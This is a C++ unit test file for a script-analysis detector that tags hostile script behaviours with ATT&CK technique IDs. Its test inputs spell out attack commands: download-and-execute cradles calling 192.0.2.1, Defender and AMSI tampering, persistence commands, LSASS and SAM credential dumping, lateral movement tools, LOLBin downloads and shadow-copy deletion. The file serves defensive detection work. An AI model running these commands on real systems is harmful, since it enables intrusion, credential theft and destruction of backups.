// Behaviour rules: each maps to its ATT&CK techniques with its evidence, and ordinary text does
// not trip them.
#include <algorithm>

#include <gtest/gtest.h>

#include "script_analysis/behaviours.hpp"

namespace script_analysis {
namespace {

std::vector<std::string> ids(const std::vector<Behaviour>& behaviours) {
  std::vector<std::string> out;
  for (const auto& behaviour : behaviours)
    out.push_back(behaviour.id);
  return out;
}

const Behaviour* find(const std::vector<Behaviour>& behaviours, std::string_view id) {
  auto it = std::find_if(behaviours.begin(), behaviours.end(),
                         [&](const Behaviour& b) { return b.id == id; });
  return it == behaviours.end() ? nullptr : &*it;
}

using Strings = std::vector<std::string>;

TEST(Behaviours, DownloadAndExecuteWithEvidence) {
  auto found = detect_behaviours(
      "$a = 1\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\n",
      Language::PowerShell);
  const Behaviour* cradle = find(found, "download_execute");
  ASSERT_NE(cradle, nullptr);
  EXPECT_EQ(cradle->techniques, (Strings{"T1105", "T1059.001"}));
  EXPECT_EQ(cradle->evidence,
            "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
  EXPECT_EQ(cradle->severity, Severity::High);
  // The plain download and the string-as-code behaviours are part of it.
  EXPECT_EQ(find(found, "download"), nullptr);
  EXPECT_EQ(find(found, "dynamic_code"), nullptr);
}

TEST(Behaviours, TheInterpreterTechniqueFollowsTheLanguage) {
  auto shell = detect_behaviours("wget -qO- http://192.0.2.1/x | sh", Language::Shell);
  ASSERT_NE(find(shell, "download_execute"), nullptr);
  EXPECT_EQ(find(shell, "download_execute")->techniques, (Strings{"T1105", "T1059.004"}));
}

TEST(Behaviours, DefenceTamperingPersistenceCredentialsLateralMovement) {
  struct Case {
    std::string text;
    std::string id;
    Strings techniques;
  };
  const Case cases[] = {
      {"Set-MpPreference -DisableRealtimeMonitoring $true", "defender_disable", {"T1562.001"}},
      {"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
       "amsi_bypass",
       {"T1562.001"}},
      {"reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b",
       "run_key",
       {"T1547.001"}},
      {"schtasks /create /tn x /tr y /sc onlogon", "scheduled_task", {"T1053.005"}},
      {"sc create evil binPath= C:\\x.exe", "windows_service", {"T1543.003"}},
      {"(crontab -l; echo '* * * * * /tmp/x') | crontab -", "cron", {"T1053.003"}},
      {"procdump -ma lsass.exe out.dmp", "lsass_dump", {"T1003.001"}},
      {"reg save HKLM\\SAM sam.hiv", "sam_dump", {"T1003.002"}},
      {"psexec \\\\host -s cmd", "psexec", {"T1021.002", "T1569.002"}},
      {"wmic /node:host process call create calc", "wmi_remote", {"T1047"}},
      {"Invoke-Command -ComputerName host -ScriptBlock {1}", "winrm_remote", {"T1021.006"}},
      {"certutil -urlcache -split -f http://192.0.2.1/a a.exe", "certutil_download", {"T1105"}},
      {"mshta http://192.0.2.1/a.hta", "mshta", {"T1218.005"}},
      {"regsvr32 /s /n /u /i:http://192.0.2.1/a.sct scrobj.dll", "regsvr32", {"T1218.010"}},
      {"rundll32.exe shell32.dll,ShellExec_RunDLL calc", "rundll32", {"T1218.011"}},
      {"bitsadmin /transfer j http://192.0.2.1/a C:\\a.exe", "bitsadmin", {"T1197", "T1105"}},
      {"vssadmin delete shadows /all /quiet", "shadow_copy_deletion", {"T1490"}},
  };
  for (const auto& test : cases) {
    auto found = detect_behaviours(test.text, Language::Unknown);
    const Behaviour* behaviour = find(found, test.id);
    ASSERT_NE(behaviour, nullptr) << test.text
                                  << "\nfound: " << ::testing::PrintToString(ids(found));
    EXPECT_EQ(behaviour->techniques, test.techniques) << test.text;
  }
}

TEST(Behaviours, WordBoundariesAndOrdinaryScripts) {
  EXPECT_TRUE(
      detect_behaviours("See the appendix; iexplore is a browser; Get-Date", Language::PowerShell)
          .empty());
  EXPECT_TRUE(
      detect_behaviours("tar -czf backup.tgz /srv/www && echo done", Language::Shell).empty());
}

TEST(Behaviours, ObfuscationLayersBecomeBehaviours) {
  BehaviourCollector collector;
  collector.obfuscation(
      LayerView{1, "char_codes", ObfuscationClass::CommandObfuscation, Language::PowerShell, "x"},
      Language::PowerShell);
  collector.obfuscation(LayerView{2, "string_concatenation", ObfuscationClass::CommandObfuscation,
                                  Language::PowerShell, "x"},
                        Language::PowerShell);
  collector.obfuscation(
      LayerView{3, "base64_decoding", ObfuscationClass::Compression, Language::PowerShell, "x"},
      Language::PowerShell);
  auto found = collector.behaviours();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].id, "compressed_payload");  // high before medium
  EXPECT_EQ(found[0].techniques, (Strings{"T1027", "T1140"}));
  EXPECT_EQ(found[1].id, "command_obfuscation");
  EXPECT_EQ(found[1].techniques, (Strings{"T1027.010"}));
  EXPECT_EQ(found[1].evidence, "undone: char_codes (layer 1), string_concatenation (layer 2)");
}

}  // namespace
}  // namespace script_analysis
